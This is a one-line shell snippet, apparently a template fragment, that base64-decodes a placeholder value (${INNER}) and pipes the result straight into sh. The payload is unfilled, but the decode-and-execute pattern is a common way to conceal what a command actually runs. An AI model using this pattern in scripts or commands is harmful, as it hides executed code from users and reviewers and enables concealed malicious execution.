echo '${INNER}' | base64 -d | sh
